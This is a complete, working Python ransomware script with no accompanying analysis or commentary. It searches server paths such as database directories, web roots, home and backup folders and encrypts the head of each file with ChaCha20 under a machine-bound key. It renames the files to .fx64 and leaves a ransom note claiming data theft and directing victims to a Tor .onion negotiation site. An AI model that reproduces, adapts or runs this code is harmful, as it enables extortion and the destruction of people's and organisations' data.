#!/usr/bin/env python3
import os
import sys
import struct
import hashlib
from concurrent.futures import ThreadPoolExecutor

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms

HEAD = 64 * 1024
EXT = ".fx64"
MAGIC = b"FX64"
SECRET = bytes.fromhex("9f2c41d07be3a58e16c29f40d7ab3e5c81f6a0d2e4b97c3518a6f0e2d4c7b9a1")
ROOTS = ["/data", "/srv", "/app", "/var/lib/mysql", "/var/lib/postgresql",
         "/var/lib/redis", "/var/www", "/home", "/mnt", "/opt", "/backup"]
SKIP_EXT = {".so", ".py", ".pyc", ".ko", ".sh", EXT}
NOTE_NAME = "RESTORE-FX64.txt"
NOTE = """---=== FX64 ===---
Hello. Your infrastructure was penetrated and the files on this host were encrypted.
We also took a copy of the most interesting data.

Download Tor Browser and open:
http://fx64k2qvbn7m3ylrwt5ezhgda4ucsjp6xoi2fnvq7klbm3ytrwsd5eah.onion/chat
Machine ID: {mid}

- do not modify .fx64 files
- do not reboot or reinstall pods, the key depends on this machine
"""


def machine_id():
    for p in ("/etc/machine-id", "/var/lib/dbus/machine-id", "/proc/sys/kernel/random/boot_id"):
        try:
            with open(p) as f:
                return f.read().strip()
        except OSError:
            pass
    return os.uname().nodename


MID = machine_id()
KEY = hashlib.sha256(SECRET + MID.encode()).digest()


def crypt_head(path):
    try:
        size = os.path.getsize(path)
        if size == 0:
            return
        nonce = os.urandom(16)
        enc = Cipher(algorithms.ChaCha20(KEY, nonce), mode=None).encryptor()
        with open(path, "r+b") as f:
            head = f.read(HEAD)
            f.seek(0)
            f.write(enc.update(head))
            f.seek(0, 2)
            f.write(MAGIC + nonce + struct.pack("<Q", size))
        os.rename(path, path + EXT)
    except (OSError, PermissionError):
        pass


def targets(root):
    for d, dirs, files in os.walk(root):
        dirs[:] = [x for x in dirs if not x.startswith(".git")]
        hit = False
        for fn in files:
            if os.path.splitext(fn)[1].lower() in SKIP_EXT or fn == NOTE_NAME:
                continue
            p = os.path.join(d, fn)
            if os.path.islink(p):
                continue
            hit = True
            yield p
        if hit:
            try:
                with open(os.path.join(d, NOTE_NAME), "w") as f:
                    f.write(NOTE.format(mid=MID))
            except OSError:
                pass


def main():
    roots = sys.argv[1:] or [r for r in ROOTS if os.path.isdir(r)]
    with ThreadPoolExecutor(max_workers=(os.cpu_count() or 2) * 4) as pool:
        for r in roots:
            for p in targets(r):
                pool.submit(crypt_head, p)


if __name__ == "__main__":
    main()
